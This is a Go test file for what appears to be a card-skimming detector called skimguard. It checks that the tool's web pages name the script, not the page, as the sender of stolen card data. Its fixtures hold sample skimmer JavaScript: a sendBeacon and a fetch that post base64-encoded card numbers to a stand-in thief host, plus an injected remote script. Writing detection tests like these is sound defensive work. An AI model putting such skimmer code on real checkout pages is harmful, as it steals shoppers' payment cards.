package web

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/baseline"
)

// The shop's second page, shop/pay, is compromised through an inline
// script: it sends the card itself (the browser names the page as the
// sender, since inline code has no URL of its own) and injects a second
// skimmer from the thief's origin, which sends it too.
const (
	payURL  = "http://127.0.0.1:1/pay"
	evilJS  = thief + "/x.js"
	cfgJS   = `window.cfg={"currency":"EUR"};`
	skimJS  = `document.addEventListener("change",function(){navigator.sendBeacon("http://127.0.0.66:1/g.php",btoa(cc.value))});var s=document.createElement("script");s.src="http://127.0.0.66:1/x.js";document.head.append(s);`
	evilSrc = `fetch("http://127.0.0.66:1/c",{method:"POST",body:btoa(cc.value)});`
	// skimName is how the reviewer must see the inline skimmer named.
	skimName = "inline #2 (line 25 col 1) in " + payURL
)

func inlineScript(ordinal int, location, src string) skimguard.Script {
	sum := sha256.Sum256([]byte(src))
	return skimguard.Script{Kind: skimguard.ScriptInline, Frame: payURL, Ordinal: ordinal, Location: location,
		SHA256: hex.EncodeToString(sum[:]), Size: len(src), Source: src, LoadedBy: "parser"}
}

// payPage is a load of shop/pay, clean or compromised.
func payPage(compromised bool) *skimguard.Observation {
	o := observation(libV1, false)
	o.Page, o.URL, o.FinalURL = "pay", payURL, payURL
	o.Scripts[0].Frame = payURL
	o.Scripts = append(o.Scripts, inlineScript(1, "line 5 col 9", cfgJS))
	o.Frames = []skimguard.Frame{{URL: "https://psp.example/card?session=1", Origin: "https://psp.example", Parent: payURL, Name: "card", Allow: "payment"}}
	o.Forms = []skimguard.Form{{Frame: payURL, Action: payURL + "/place", Method: "POST", ID: "pay-form",
		Inputs: []skimguard.Input{{Field: skimguard.FieldName, Name: "holder", Visible: true}}}}
	if !compromised {
		return o
	}
	ext := script(evilSrc)
	ext.URL, ext.LoadedBy = evilJS, payURL
	o.Scripts = append(o.Scripts, inlineScript(2, "line 25 col 1", skimJS), ext)
	o.Connections = append(o.Connections, skimguard.Connection{Origin: thief, Types: []string{"Fetch", "Ping", "Script"},
		Initiators: []string{evilJS, payURL}, Example: thief + "/g.php", Count: 3, AfterTyping: true})
	o.Leaks = []skimguard.Leak{
		{Origin: thief, URL: thief + "/g.php", Method: "POST", Type: "Ping", Initiator: payURL,
			Fields: []skimguard.CardField{skimguard.FieldNumber}, Encoding: "base64", Where: "body"},
		{Origin: thief, URL: thief + "/c", Method: "POST", Type: "Fetch", Initiator: evilJS,
			Fields: []skimguard.CardField{skimguard.FieldNumber}, Encoding: "base64", Where: "body"},
	}
	return o
}

// payIncident takes shop/pay's baseline from clean loads and stores a
// check of the compromised page; it returns the check's findings by kind
// and, for script.added, by script URL ("" for the inline skimmer).
func (f *fixture) payIncident(t *testing.T) (map[skimguard.Kind]skimguard.Finding, map[string]skimguard.Finding) {
	t.Helper()
	now := time.Now().UTC().Add(-50 * time.Minute)
	clean := payPage(false)
	b, err := baseline.Learn([]*skimguard.Observation{clean, clean, clean}, "alice", "onboarding", now)
	if err != nil {
		t.Fatal(err)
	}
	b.Site, b.Page, b.URL = "shop", "pay", payURL
	if err := f.store.SaveBaseline(context.Background(), b); err != nil {
		t.Fatal(err)
	}
	scan := f.checkWith(t, now.Add(time.Minute), payPage(true))
	byKind, added := map[skimguard.Kind]skimguard.Finding{}, map[string]skimguard.Finding{}
	for _, fd := range scan.Findings {
		byKind[fd.Kind] = fd
		if fd.Kind == skimguard.KindScriptAdded {
			added[fd.Evidence.URL] = fd
		}
	}
	if len(added) != 2 || byKind[skimguard.KindDataExfiltration].ID == 0 {
		t.Fatalf("want two scripts added and an exfiltration, got %+v", scan.Findings)
	}
	return byKind, added
}

func TestSentByNamesTheScriptNotThePage(t *testing.T) {
	f := newFixture(t)
	byKind, added := f.payIncident(t)
	c := f.client(t)
	f.login(t, c, "alice", password)
	exfil, inline, injected := byKind[skimguard.KindDataExfiltration], added[""], added[evilJS]

	_, doc := get(t, c, f.url("/findings/"+itoa(exfil.ID)))
	if h := doc.Find("#headline").Text(); !strings.Contains(h, "was sent to "+thief+" by "+skimName+", first seen") {
		t.Errorf("the headline does not name the inline skimmer: %q", h)
	}
	culprits := doc.Find("#sent-by .culprit")
	if culprits.Length() != 2 {
		t.Fatalf("want the two senders named, got %d:\n%s", culprits.Length(), doc.Find("#sent-by").Text())
	}
	// link is a chain entry: subject, mark and the finding it links to.
	type link struct {
		subject, mark string
		finding       int64
	}
	chain := func(s *goquery.Selection) (string, []link, string) {
		var out []link
		items := s.Find("ol.chain li")
		items.Each(func(i int, li *goquery.Selection) {
			if i == items.Length()-1 {
				return
			}
			l := link{subject: li.Find(".mono").First().Text(), mark: li.Find(".mark").Text()}
			if href, ok := li.Find("a").Attr("href"); ok {
				l.finding = f.idOf(t, href)
			}
			out = append(out, l)
		})
		return strings.TrimSpace(s.Find(".culprit-name").Text()), out, items.Last().Find(".mono").Text()
	}

	name, links, root := chain(culprits.Eq(0))
	if name != skimName || len(links) != 1 || links[0] != (link{skimName, "new", inline.ID}) || root != "the page's HTML" {
		t.Errorf("the first sender is %q, chain %+v from %q; want %q, new, linked to finding %d, from the page's HTML", name, links, root, skimName, inline.ID)
	}
	name, links, root = chain(culprits.Eq(1))
	want := []link{{evilJS, "new", injected.ID}, {skimName, "new", inline.ID}}
	if name != evilJS || len(links) != 2 || links[0] != want[0] || links[1] != want[1] || root != "the page's HTML" {
		t.Errorf("the second sender is %q, chain %+v from %q; want %+v from the page's HTML", name, links, root, want)
	}
	var sentBy []string
	doc.Find("section.leaks tbody tr").Each(func(_ int, tr *goquery.Selection) { sentBy = append(sentBy, tr.Find("td").Last().Text()) })
	if strings.Join(sentBy, "|") != skimName+"|"+evilJS {
		t.Errorf("the requests' Sent by column says %q, want the scripts", sentBy)
	}
	if sender := doc.Find("section.senders").Text(); !strings.Contains(sender, "sendBeacon") || !strings.Contains(sender, `fetch("http://127.0.0.66:1/c"`) {
		t.Errorf("the sending scripts' texts are not shown:\n%s", sender)
	}
	if strings.Contains(doc.Find("#sent-by").Text(), cfgJS) || doc.Find(`#sent-by .culprit-name`).FilterFunction(func(_ int, s *goquery.Selection) bool {
		return strings.TrimSpace(s.Text()) == payURL
	}).Length() > 0 {
		t.Errorf("the page is named as the sender:\n%s", doc.Find("#sent-by").Text())
	}
	for _, id := range []int64{inline.ID, injected.ID, byKind[skimguard.KindConnectionAdded].ID} {
		if doc.Find(`#group a[href="/findings/`+itoa(id)+`"]`).Length() == 0 {
			t.Errorf("the incident does not list finding %d", id)
		}
	}

	// The injected script's own page names the inline script that loaded
	// it, not the page.
	_, doc = get(t, c, f.url("/findings/"+itoa(injected.ID)))
	if got := strings.TrimSpace(doc.Find("#loaded-by .culprit-name").Text()); got != skimName {
		t.Errorf("the injected script's loader is %q, want %q", got, skimName)
	}
	// The connection's page names both senders.
	_, doc = get(t, c, f.url("/findings/"+itoa(byKind[skimguard.KindConnectionAdded].ID)))
	if got := doc.Find("#sent-by .culprit-name").Text(); !strings.Contains(got, evilJS) || !strings.Contains(got, skimName) {
		t.Errorf("the new destination's senders are %q", got)
	}
}

// idOf reads the finding id of a /findings/ID link.
func (f *fixture) idOf(t *testing.T, href string) int64 {
	t.Helper()
	id, ok := strings.CutPrefix(href, "/findings/")
	if !ok {
		t.Fatalf("not a finding link: %q", href)
	}
	for _, fd := range f.allFindings(t) {
		if itoa(fd.ID) == id {
			return fd.ID
		}
	}
	t.Fatalf("no finding %s", id)
	return 0
}

func (f *fixture) allFindings(t *testing.T) []skimguard.Finding {
	t.Helper()
	fs, err := f.store.Findings(context.Background(), skimguard.FindingFilter{})
	if err != nil {
		t.Fatal(err)
	}
	return fs
}

// When the observation cannot pin the sender down, the page says what is
// known and lists the code that is not approved; it never names the page
// as if it were a script.
func TestCulpritSaysWhatIsKnown(t *testing.T) {
	clean := payPage(false)
	b, err := baseline.Learn([]*skimguard.Observation{clean, clean, clean}, "alice", "onboarding", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	gtm := script(`(function(){eval(window.tags)})()`)
	gtm.URL = "http://127.0.0.1:1/gtm.js"
	withGTM := payPage(false)
	withGTM.Scripts = append(withGTM.Scripts, gtm)
	bGTM, err := baseline.Learn([]*skimguard.Observation{withGTM, withGTM, withGTM}, "alice", "onboarding", time.Now())
	if err != nil {
		t.Fatal(err)
	}

	twoNew := payPage(true)
	twoNew.Scripts = append(twoNew.Scripts, inlineScript(3, "line 40 col 1", `window.x=1;`))
	viaGTM := payPage(false)
	viaGTM.Scripts = append(viaGTM.Scripts, gtm, skimguard.Script{Kind: skimguard.ScriptDynamic, Frame: payURL, Ordinal: 1,
		Location: "eval from " + gtm.URL + ":1", LoadedBy: gtm.URL, Source: evilSrc, SHA256: "00"})
	for _, tc := range []struct {
		name      string
		b         *skimguard.Baseline
		o         *skimguard.Observation
		initiator string
		want      string
		chain     []string
		suspects  []string
	}{
		{"two new inline scripts", b, twoNew, payURL, "a script in " + payURL + " (inline)", nil,
			[]string{skimName + " new", "inline #3 (line 40 col 1) in " + payURL + " new"}},
		{"one inline script, not compared", nil, payPage(false), payURL, "inline #1 (line 5 col 9) in " + payURL,
			[]string{"inline #1 (line 5 col 9) in " + payURL + " "}, nil},
		{"code an approved tag manager compiled", bGTM, viaGTM, gtm.URL, gtm.URL,
			[]string{gtm.URL + " approved"}, []string{"dynamic #1 (eval from " + gtm.URL + ":1) in " + payURL + " new"}},
		{"no initiator", b, twoNew, "", "a script the browser did not name", nil, nil},
		{"the HTML", b, twoNew, "parser", "the page's HTML", nil, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x := &scanScripts{o: tc.o, states: baseline.Scripts(tc.b, tc.o)}
			c := x.culprit(tc.initiator)
			refs := func(rs []scriptRef) []string {
				var out []string
				for _, r := range rs {
					out = append(out, r.Subject+" "+r.State)
				}
				return out
			}
			if c.Name != tc.want || strings.Join(refs(c.Chain), "|") != strings.Join(tc.chain, "|") || strings.Join(refs(c.Suspects), "|") != strings.Join(tc.suspects, "|") {
				t.Errorf("named %q, chain %q, suspects %q; want %q, %q, %q", c.Name, refs(c.Chain), refs(c.Suspects), tc.want, tc.chain, tc.suspects)
			}
		})
	}
}

// A script whose text changed twice has two open findings; the chain links
// the one about the text the scan saw.
func TestCulpritLinksTheFindingOfTheTextTheScanSaw(t *testing.T) {
	f := newFixture(t)
	again := f.checkWith(t, time.Now().UTC().Add(-20*time.Minute), observation(libV1+`;fetch("http://127.0.0.66:1/x");`, true))
	latest := findingOf(t, again, skimguard.KindScriptChanged)
	if latest.ID == f.ids[skimguard.KindScriptChanged] {
		t.Fatal("the second change is no new finding")
	}
	c := f.client(t)
	f.login(t, c, "alice", password)
	_, doc := get(t, c, f.url("/findings/"+itoa(f.ids[skimguard.KindDataExfiltration])))
	if href, _ := doc.Find("#sent-by ol.chain li a").First().Attr("href"); href != "/findings/"+itoa(latest.ID) {
		t.Errorf("the sender links %q, want the finding about the text the scan saw, %d", href, latest.ID)
	}
}
